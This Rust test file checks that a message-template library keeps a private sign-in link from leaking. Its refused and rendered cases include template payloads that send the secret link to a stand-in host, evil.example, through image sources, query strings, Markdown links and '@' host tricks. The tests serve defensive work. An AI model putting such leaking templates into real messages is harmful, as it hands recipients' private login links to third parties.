//! Links that only the recipient may know.

use message_templates::{Catalogue, Format, KnownField, Template, Values};

const LINK: &str = "https://portal.example/l/mlk_1_secret";

fn check(source: &str, format: Format) -> Vec<(usize, usize, String)> {
    let field = |name: &str, private| KnownField {
        name: name.to_owned(),
        may_be_empty: false,
        available: Ok(()),
        private,
    };
    let catalogue = Catalogue {
        fields: vec![field("url", true), field("name", false)],
        ..Catalogue::default()
    };
    let template =
        Template::parse(source, format).unwrap_or_else(|problems| panic!("{source}: {problems:?}"));
    let problems = template.check(&catalogue).into_iter();
    problems
        .map(|problem| (problem.line, problem.column, problem.message))
        .collect()
}

fn render(source: &str, format: Format) -> String {
    let mut values: Values = [("name", "https://evil.example/?u=")].into_iter().collect();
    values.set_private("url", Some(LINK));
    let template =
        Template::parse(source, format).unwrap_or_else(|problems| panic!("{source}: {problems:?}"));
    template
        .render(&values)
        .unwrap_or_else(|error| panic!("{source}: {error}"))
}

#[test]
fn it_may_be_a_whole_link_or_stand_in_a_text() {
    for (source, format) in [
        ("<a href=\"{{ url }}\">Sign in</a>", Format::Html),
        (
            "<a href={{ url }} title=\"{{ name }}\">{{ url }}</a>",
            Format::Html,
        ),
        ("<p>{% if url %}Your link: {{ url }}{% endif %}</p>", Format::Html),
        (
            "<a href=\" {{ url | default(\"https://portal.example\") }} \">x</a>",
            Format::Html,
        ),
        ("[Sign in]({{ url }}) or {{ url }}", Format::Markdown),
        (
            "[Sign in {{ url }}](https://portal.example/{{ name }})",
            Format::Markdown,
        ),
        ("[a]\n\n[a]: {{ url }}", Format::Markdown),
        ("Sign in: {{ url }}", Format::Text),
    ] {
        assert_eq!(check(source, format), [], "{source}");
    }
}

#[test]
fn it_is_refused_where_others_would_get_it() {
    for (source, format, reason) in [
        ("Your link {{ url }}", Format::Line, "A subject is shown"),
        (
            "<img src=\"https://evil.example/?u={{ url }}\">",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<img src=\"{{ url }}\">",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<a href=\"https://evil.example/?u={{ url }}\">x</a>",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<a href=\"{{ url }}@evil.example\">x</a>",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<a href=\"{{ name }}{{ url }}\">x</a>",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<a href=\"{% if name %}https://evil.example/?u={% endif %}{{ url }}\">x</a>",
            Format::Html,
            "the whole link",
        ),
        (
            "<p style=\"color: {{ url }}\">x</p>",
            Format::Html,
            "the whole link of an `<a>`",
        ),
        (
            "<a href=\"{{ url | lower }}\">x</a>",
            Format::Html,
            "leave out the filter",
        ),
        (
            "<p>{{ url | urlencode }}</p>",
            Format::Html,
            "leave out the filter",
        ),
        ("![x]({{ url }})", Format::Markdown, "the whole link of an `<a>`"),
        (
            "![x](https://evil.example/?u={{ url }})",
            Format::Markdown,
            "the whole link of an `<a>`",
        ),
        (
            "[x](https://evil.example/?u={{ url }})",
            Format::Markdown,
            "the whole link of an `<a>`",
        ),
        (
            "[x](https://evil.example/?a&amp;u={{ url }})",
            Format::Markdown,
            "the whole link of an `<a>`",
        ),
        (
            "<https://evil.example/?u={{ url }}>",
            Format::Markdown,
            "the whole link of an `<a>`",
        ),
        (
            "[x]\n\n[x]: https://evil.example/?u={{ url }}",
            Format::Markdown,
            "the whole link of an `<a>`",
        ),
        ("{{ url | upper }}", Format::Text, "leave out the filter"),
    ] {
        let problems = check(source, format);
        let [(_, column, message)] = &problems[..] else {
            panic!("{source}: {problems:?}");
        };
        let line = source.lines().last().unwrap_or_default();
        assert_eq!(Some(*column), line.rfind("{{ url").map(|at| at + 4), "{source}");
        assert!(message.contains(reason), "{source}: {message}");
    }
}

#[test]
fn it_never_continues_a_url_that_a_mail_program_would_find() {
    for (source, format) in [
        ("https://evil.example/?u={{ url }}", Format::Text),
        ("{{ name }}{{ url }}", Format::Text),
        (
            "{% if name %}https://evil.example/?u={% endif %}{{ url }}",
            Format::Text,
        ),
        ("<p>https://evil.example/?u={{ url }}</p>", Format::Html),
        ("<p>{{ name }}<b title=\" <p>\">{{ url }}</b></p>", Format::Html),
        ("https://evil.example/?u=[{{ url }}]({{ url }})", Format::Markdown),
        ("https://evil.example/?u=**{{ url }}**", Format::Markdown),
    ] {
        let rendered = render(source, format);
        let places = rendered.match_indices(LINK).map(|(at, _)| &rendered[..at]);
        for before in places {
            assert!(before.ends_with(' ') || before.ends_with("href=\""), "{rendered}");
        }
    }
    assert_eq!(
        render("Sign in: {{ url }}", Format::Text),
        format!("Sign in: {LINK}")
    );
    assert_eq!(render("{{ url }}", Format::Text), LINK);
    assert_eq!(render("<p>{{ url }}</p>", Format::Html), format!("<p>{LINK}</p>"));
}
